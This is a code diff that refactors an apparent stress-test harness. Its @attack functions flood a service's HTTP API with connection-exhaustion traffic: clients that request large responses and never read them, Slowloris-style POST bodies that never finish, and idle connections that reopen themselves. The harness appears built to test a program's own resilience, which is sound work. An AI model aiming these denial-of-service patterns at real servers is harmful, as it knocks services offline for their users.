@@ -107,49 +107,46 @@ def new_keys(host, port):
     for_ever(step, host, port)
 
 
-@attack("30 clients that ask for the longest answers and read nothing")
-def unread_answers(host, port):
-    paths = ["/v1/openapi.json", "/", "/v1/sessions", "/v1/history", "/v1/events?since=0&timeoutSeconds=0"]
+def crowd(opened, most, pause):
+    """So many clients; a new one takes the place of the oldest. `pause`: the box's processor is not the matter here."""
     clients = []
     while True:
         try:
-            client = connect(host, port, 2048)
-            client.sendall(b"".join(get(path) for path in paths) * 4)
-            clients.append(client)
+            clients.append(opened())
         except OSError:
             time.sleep(0.001)
-        if len(clients) > 30:
+        if len(clients) > most:
             clients.pop(0).close()
-        time.sleep(0.002)  # the box's processor is not the matter here
+        time.sleep(pause)
+
+
+@attack("30 clients that ask for the longest answers and read nothing")
+def unread_answers(host, port):
+    paths = ["/v1/openapi.json", "/", "/v1/sessions", "/v1/history", "/v1/events?since=0&timeoutSeconds=0"]
+
+    def opened():
+        client = connect(host, port, 2048)
+        client.sendall(b"".join(get(path) for path in paths) * 4)
+        return client
+
+    crowd(opened, 30, 0.002)
 
 
 @attack("30 clients that send the longest bodies and never the last byte")
 def endless_bodies(host, port):
     head = b"POST /v1/sessions HTTP/1.1\r\nHost: l\r\nContent-Type: application/json\r\nContent-Length: 65536\r\n\r\n"
-    clients = []
-    while True:
-        try:
-            client = connect(host, port)
-            client.sendall(head + b" " * 65535)
-            clients.append(client)
-        except OSError:
-            time.sleep(0.001)
-        if len(clients) > 30:
-            clients.pop(0).close()
-        time.sleep(0.002)  # the box's processor is not the matter here
+
+    def opened():
+        client = connect(host, port)
+        client.sendall(head + b" " * 65535)
+        return client
+
+    crowd(opened, 30, 0.002)
 
 
 @attack("40 connections that say nothing, opened again where they end")
 def silent_connections(host, port):
-    clients = []
-    while True:
-        try:
-            clients.append(connect(host, port))
-        except OSError:
-            time.sleep(0.001)
-        if len(clients) > 40:
-            clients.pop(0).close()
-        time.sleep(0.001)
+    crowd(lambda: connect(host, port), 40, 0.001)
 
 
 @attack("CM answers in 2.6 s, and 8 questions and 5 starts wait for it")
